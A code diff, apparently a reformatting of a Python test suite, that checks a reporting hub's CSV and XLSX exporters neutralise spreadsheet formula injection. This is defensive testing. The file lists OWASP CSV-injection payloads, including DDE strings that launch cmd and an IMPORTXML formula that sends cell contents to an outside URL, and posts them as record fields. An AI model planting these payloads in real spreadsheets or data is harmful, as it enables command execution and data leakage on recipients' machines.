@@ -20,14 +20,16 @@ from typing import Any, Literal, get_args, get_origin, get_type_hints
 import httpx
 from fastapi import FastAPI
 from fastapi.routing import APIRoute
-from hypothesis import HealthCheck, given, settings as hypothesis_settings, strategies as st
+from hypothesis import HealthCheck, given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
 from openpyxl import load_workbook
 
+from services.reporting.read.catalogue import VIEWS
+from services.reporting.read.exports.registry import EXPORTERS
+from services.reporting.read.params import ViewParams
 from shared import cells
 from shared.settings import HubSettings
-from services.reporting.read.exports.registry import EXPORTERS
-from services.reporting.read.catalogue import VIEWS
-from services.reporting.read.params import ViewParams
 from tests.dashboard_helpers import dashboard_app, signed_in
 from tests.helpers import System, activity, income, organisation
 from tests.test_cli import run
@@ -35,11 +37,29 @@ from tests.test_cli import run
 ROOT = Path(__file__).resolve().parent.parent
 HYPERLINK = '=HYPERLINK("http://x","y")'
 STARTING = [  # https://owasp.org/www-community/attacks/CSV_Injection and its DDE variants
-    HYPERLINK, "=cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'", "@SUM(1+1)*cmd|' /C calc'!A0",
-    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
-    "=1+2\";=1+2", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u00a0@SUM(1)", "\uff1d1+1", "\uff0b1",
-    "\uff0d1+1", "\uff20SUM(1)", '=IMPORTXML(CONCAT("http://x/?v=", CONCATENATE(A2:E2)), "//a")',
-    "-", "+", "=", "@",
+    HYPERLINK,
+    "=cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    '=1+2";=1+2',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=1+1",
+    " =1+1",
+    "\u00a0@SUM(1)",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+    '=IMPORTXML(CONCAT("http://x/?v=", CONCATENATE(A2:E2)), "//a")',
+    "-",
+    "+",
+    "=",
+    "@",
 ]
 SEPARATED = ["x;=1+1", "x,=1+1", 'x";=1+1']
 """A formula after a separator: safe only because CSV text is always quoted."""
@@ -61,7 +81,11 @@ def test_every_owasp_payload_is_neutralised_with_one_quote_and_plain_numbers_are
     assert cells.text("a\x00b\ud800c\ufffe") == "a\ufffdb\ufffdc\ufffd"  # what XML cannot hold
     assert cells.text("line\r\nnext\rlast") == "line\nnext\nlast"
     line = cells.to_csv(["name"], [[s] for s in SEPARATED]).splitlines()[1:]
-    assert line == ['"x;=1+1"', '"x,=1+1"', '"x"";=1+1"']  # one quoted cell each, whatever the separator
+    assert line == [
+        '"x;=1+1"',
+        '"x,=1+1"',
+        '"x"";=1+1"',
+    ]  # one quoted cell each, whatever the separator
 
 
 def test_numbers_decimals_dates_and_booleans_stay_typed() -> None:
@@ -87,15 +111,29 @@ def test_a_formula_set_around_the_writer_is_still_neutralised_when_the_workbook_
 def test_no_module_writes_a_spreadsheet_except_through_the_cell_writer() -> None:
     """A writer of its own (openpyxl's Workbook, csv.writer or DictWriter) anywhere but shared/cells.py fails here."""
     found = []
-    for path in [*(ROOT / "services").rglob("*.py"), *(ROOT / "shared").rglob("*.py"), *(ROOT / "hub").rglob("*.py")]:
+    for path in [
+        *(ROOT / "services").rglob("*.py"),
+        *(ROOT / "shared").rglob("*.py"),
+        *(ROOT / "hub").rglob("*.py"),
+    ]:
         if path == ROOT / "shared" / "cells.py":
             continue
         for node in ast.walk(ast.parse(path.read_text())):
-            if isinstance(node, ast.ImportFrom) and node.module == "openpyxl" and any(a.name == "Workbook" for a in node.names):
+            if (
+                isinstance(node, ast.ImportFrom)
+                and node.module == "openpyxl"
+                and any(a.name == "Workbook" for a in node.names)
+            ):
                 found.append(f"{path.relative_to(ROOT)}:{node.lineno} imports openpyxl.Workbook")
-            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "Workbook") \
-                    and isinstance(node.value, ast.Name) and node.value.id in ("csv", "openpyxl"):
-                found.append(f"{path.relative_to(ROOT)}:{node.lineno} uses {node.value.id}.{node.attr}")
+            if (
+                isinstance(node, ast.Attribute)
+                and node.attr in ("writer", "DictWriter", "Workbook")
+                and isinstance(node.value, ast.Name)
+                and node.value.id in ("csv", "openpyxl")
+            ):
+                found.append(
+                    f"{path.relative_to(ROOT)}:{node.lineno} uses {node.value.id}.{node.attr}"
+                )
     assert not found, found
 
 
@@ -107,24 +145,67 @@ async def load_hostile_hub(system: System) -> dict[str, str]:
     r = await system.post("coventry", "partners", "/organisations", organisation(HYPERLINK))
     assert r.status_code == 201, r.text
     partner = r.json()["organisation_id"]
-    r = await system.post("coventry", "activities", "/activities",
-                          activity(partner, title="@SUM(1+1)*cmd|' /C calc'!A0", starts_on="2024-09-09",
-                                   ends_on="2025-07-18", setting_urn=None))
+    r = await system.post(
+        "coventry",
+        "activities",
+        "/activities",
+        activity(
+            partner,
+            title="@SUM(1+1)*cmd|' /C calc'!A0",
+            starts_on="2024-09-09",
+            ends_on="2025-07-18",
+            setting_urn=None,
+        ),
+    )
     assert r.status_code == 201, r.text
-    r = await system.post("coventry", "funding", "/income",
-                          income(1_000_00, source="parents", funder="+cmd|' /C calc'!A0", received_on="2024-09-02",
-                                 purpose="-2+3+cmd|' /C calc'!A0"))
+    r = await system.post(
+        "coventry",
+        "funding",
+        "/income",
+        income(
+            1_000_00,
+            source="parents",
+            funder="+cmd|' /C calc'!A0",
+            received_on="2024-09-02",
+            purpose="-2+3+cmd|' /C calc'!A0",
+        ),
+    )
     assert r.status_code == 201, r.text
     grant = r.json()["entry_id"]
-    r = await system.post("coventry", "funding", "/commissions", {
-        "recipient_organisation_id": partner, "recipient_name": HYPERLINK, "title": "=cmd|' /C notepad'!'A1'",
-        "function": "progression", "area": "coventry", "activity_ids": [], "stream": "revenue", "amount_pence": 400_00,
-        "commissioned_on": "2024-10-01", "funded_from": [{"entry_id": grant, "amount_pence": 400_00}]})
+    r = await system.post(
+        "coventry",
+        "funding",
+        "/commissions",
+        {
+            "recipient_organisation_id": partner,
+            "recipient_name": HYPERLINK,
+            "title": "=cmd|' /C notepad'!'A1'",
+            "function": "progression",
+            "area": "coventry",
+            "activity_ids": [],
+            "stream": "revenue",
+            "amount_pence": 400_00,
+            "commissioned_on": "2024-10-01",
+            "funded_from": [{"entry_id": grant, "amount_pence": 400_00}],
+        },
+    )
     assert r.status_code == 201, r.text
-    r = await system.post("coventry", "funding", "/expenditure", {
-        "category": "delivery", "function": "schools", "area": "coventry", "description": "\t=1+1", "payee": "@SUM(1)",
-        "stream": "revenue", "amount_pence": 100_00, "spent_on": "2024-10-02",
-        "funded_from": [{"entry_id": grant, "amount_pence": 100_00}]})
+    r = await system.post(
+        "coventry",
+        "funding",
+        "/expenditure",
+        {
+            "category": "delivery",
+            "function": "schools",
+            "area": "coventry",
+            "description": "\t=1+1",
+            "payee": "@SUM(1)",
+            "stream": "revenue",
+            "amount_pence": 100_00,
+            "spent_on": "2024-10-02",
+            "funded_from": [{"entry_id": grant, "amount_pence": 100_00}],
+        },
+    )
     assert r.status_code == 201, r.text
     await system.report_when(lambda rep: rep.stamp.applied_events >= 5, timeout=30)
     return {"partner": partner}
@@ -171,22 +252,31 @@ def with_hostile(data: Any, strings: list[str], placed: list[str]) -> Any:
     if isinstance(data, dict):
         return {k: with_hostile(v, strings, placed) for k, v in data.items()}
     if dataclasses.is_dataclass(data) and not isinstance(data, type):
-        return dataclasses.replace(data, **{f.name: with_hostile(getattr(data, f.name), strings, placed)
-                                             for f in dataclasses.fields(data)})
+        return dataclasses.replace(
+            data,
+            **{
+                f.name: with_hostile(getattr(data, f.name), strings, placed)
+                for f in dataclasses.fields(data)
+            },
+        )
     return data
 
 
 HOSTILE = st.one_of(
     st.sampled_from(OWASP),
     st.tuples(st.sampled_from(cells.TRIGGERS), st.text(max_size=20)).map("".join),
-    st.tuples(st.text(" \u00a0", max_size=3), st.sampled_from(cells.TRIGGERS), st.text(max_size=10)).map("".join),
+    st.tuples(
+        st.text(" \u00a0", max_size=3), st.sampled_from(cells.TRIGGERS), st.text(max_size=10)
+    ).map("".join),
     st.text(max_size=30),  # anything, control characters and lone surrogates included
 )
 
 
 async def test_every_exporter_writes_no_formula_whatever_the_text(system: System) -> None:
     await load_hostile_hub(system)
-    params = ViewParams(hub=system.settings.hub, nodes=system.settings.nodes, period=PERIOD, today=TODAY)
+    params = ViewParams(
+        hub=system.settings.hub, nodes=system.settings.nodes, period=PERIOD, today=TODAY
+    )
     loaded = {}
     async with system.reporting.read_sessions() as session:
         for name, exporter in EXPORTERS.items():
@@ -194,13 +284,23 @@ async def test_every_exporter_writes_no_formula_whatever_the_text(system: System
     assert {"360giving", "view:funding", "view:annual-return"} <= set(loaded)
 
     # The hub's own hostile names, as the nodes recorded them: neutralised wherever they are written.
-    written = {name: [s for f in files_of(EXPORTERS[name], data) for s in assert_no_formula(*f)]
-               for name, data in loaded.items()}
-    assert "'" + HYPERLINK in written["360giving"] and "'=cmd|' /C notepad'!'A1'" in written["360giving"]
-    assert f"'{HYPERLINK} (coventry)" in written["view:funding"] and "'+cmd|' /C calc'!A0" in written["view:funding"]
+    written = {
+        name: [s for f in files_of(EXPORTERS[name], data) for s in assert_no_formula(*f)]
+        for name, data in loaded.items()
+    }
+    assert (
+        "'" + HYPERLINK in written["360giving"]
+        and "'=cmd|' /C notepad'!'A1'" in written["360giving"]
+    )
+    assert (
+        f"'{HYPERLINK} (coventry)" in written["view:funding"]
+        and "'+cmd|' /C calc'!A0" in written["view:funding"]
+    )
     constant = {name: writer_text(EXPORTERS[name], data) for name, data in loaded.items()}
 
-    @hypothesis_settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+    @hypothesis_settings(
+        max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow]
+    )
     @given(strings=st.lists(HOSTILE, min_size=1, max_size=6))
     def every_exporter(strings: list[str]) -> None:
         expected = {cells.text(s) for s in strings}
@@ -210,30 +310,47 @@ async def test_every_exporter_writes_no_formula_whatever_the_text(system: System
             for file_name, content in files_of(EXPORTERS[name], hostile):
                 found = assert_no_formula(file_name, content)
                 # Text cells hold the placed strings, each neutralised the one way, and the writer's own titles.
-                assert not set(found) - expected - constant[name], (name, file_name, set(found) - expected)
+                assert not set(found) - expected - constant[name], (
+                    name,
+                    file_name,
+                    set(found) - expected,
+                )
 
     every_exporter()
 
 
 def writer_text(exporter: Any, data: Any) -> set[str]:
     """Text an exporter writes of its own (column titles): what is left when every string of the data is 'x'."""
-    return {s for f in files_of(exporter, with_hostile(data, ["x"], [])) for s in strings_in(*f)} - {"x"}
+    return {
+        s for f in files_of(exporter, with_hostile(data, ["x"], [])) for s in strings_in(*f)
+    } - {"x"}
 
 
 # ------------------------------------------------------------------ end to end
 
 
 async def test_a_partner_named_as_a_formula_is_text_in_every_360giving_spreadsheet(
-        system: System, settings: HubSettings, tmp_path: Path) -> None:
+    system: System, settings: HubSettings, tmp_path: Path
+) -> None:
     """The CLI, the API route and the dashboard's download: Title and Recipient Org:Name are text."""
     await load_hostile_hub(system)
-    env = {"HUB_HUB": settings.hub, "HUB_NODES": json.dumps(settings.nodes), "HUB_NATS_URL": system.nats_url}
+    env = {
+        "HUB_HUB": settings.hub,
+        "HUB_NODES": json.dumps(settings.nodes),
+        "HUB_NATS_URL": system.nats_url,
+    }
     out = tmp_path / "grants.xlsx"
-    done = await asyncio.to_thread(run, ["funding", "export-360giving", str(out), "--data-dir", str(settings.data_dir)],
-                                   tmp_path, env=env)
+    done = await asyncio.to_thread(
+        run,
+        ["funding", "export-360giving", str(out), "--data-dir", str(settings.data_dir)],
+        tmp_path,
+        env=env,
+    )
     assert done.returncode == 0, done.stderr[-3000:]
     app = dashboard_app(system, tmp_path)
-    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://reporting") as client:
+    async with httpx.AsyncClient(
+        transport=httpx.ASGITransport(app=app), base_url="http://reporting"
+    ) as client:
         api = (await client.get("/report/funding/360giving.xlsx")).content
     async with signed_in(app, "manager") as client:
         page = await client.get("/dashboard/download/360giving.xlsx")
@@ -258,6 +375,7 @@ PATH_VALUES = {"name": list(VIEWS)}
 
 def routes_of(app: FastAPI) -> list[tuple[str, APIRoute]]:
     """Every API route of the app with its full path, through included routers."""
+
     def walk(routes: list[Any], prefix: str) -> list[tuple[str, APIRoute]]:
         found = []
         for route in routes:
@@ -266,6 +384,7 @@ def routes_of(app: FastAPI) -> list[tuple[str, APIRoute]]:
             elif hasattr(route, "original_router"):  # FastAPI's wrapper of an included router
                 found += walk(route.original_router.routes, prefix + route.include_context.prefix)
         return found
+
     return walk(list(app.routes), "")
 
 
@@ -274,33 +393,49 @@ def spreadsheet_urls(app: FastAPI) -> list[tuple[str, dict[str, str]]]:
     urls = []
     for path, route in routes_of(app):
         hints = get_type_hints(route.endpoint, include_extras=False)
-        choices = {n: [v for v in get_args(t) if v in SPREADSHEET_FORMATS] for n, t in hints.items()
-                   if get_origin(t) is Literal and set(get_args(t)) & set(SPREADSHEET_FORMATS)}
-        if "GET" not in route.methods or not (choices or path.endswith(tuple(f".{f}" for f in SPREADSHEET_FORMATS))):
+        choices = {
+            n: [v for v in get_args(t) if v in SPREADSHEET_FORMATS]
+            for n, t in hints.items()
+            if get_origin(t) is Literal and set(get_args(t)) & set(SPREADSHEET_FORMATS)
+        }
+        if "GET" not in route.methods or not (
+            choices or path.endswith(tuple(f".{f}" for f in SPREADSHEET_FORMATS))
+        ):
             continue
         combos: list[tuple[str, dict[str, str]]] = [(path, {"period": PERIOD})]
         for param in {p.name for p in route.dependant.path_params} | set(choices):
             values = choices.get(param) or PATH_VALUES[param]
             in_path = "{" + param + "}" in path
-            combos = [(p.replace("{" + param + "}", v), q) if in_path else (p, {**q, param: v})
-                      for p, q in combos for v in values]
+            combos = [
+                (p.replace("{" + param + "}", v), q) if in_path else (p, {**q, param: v})
+                for p, q in combos
+                for v in values
+            ]
         urls += combos
     return urls
 
 
-async def test_every_spreadsheet_route_answers_without_a_formula(system: System, tmp_path: Path) -> None:
+async def test_every_spreadsheet_route_answers_without_a_formula(
+    system: System, tmp_path: Path
+) -> None:
     """Generated from the reporting app's route table: a spreadsheet route added later is covered."""
     await load_hostile_hub(system)
     app = dashboard_app(system, tmp_path)
     urls = spreadsheet_urls(app)
     paths = {p for p, _ in urls}
-    assert {"/report/funding/360giving.xlsx", "/dashboard/download/360giving.xlsx", "/report/export/funding",
-            "/dashboard/download/funding.csv"} <= paths, paths
+    assert {
+        "/report/funding/360giving.xlsx",
+        "/dashboard/download/360giving.xlsx",
+        "/report/export/funding",
+        "/dashboard/download/funding.csv",
+    } <= paths, paths
     async with signed_in(app, "manager") as client:
         for path, query in urls:
             r = await client.get(path, params=query)
             assert r.status_code == 200, (path, query, r.text[:300])
             name = "x.xlsx" if "spreadsheetml" in r.headers["content-type"] else "x.csv"
             found = assert_no_formula(name, r.content)
-            if "360giving" in path or ("funding" in path and name == "x.xlsx"):  # the partner's commission is in these
+            if "360giving" in path or (
+                "funding" in path and name == "x.xlsx"
+            ):  # the partner's commission is in these
                 assert [s for s in found if s.startswith("'" + HYPERLINK)], (path, query)
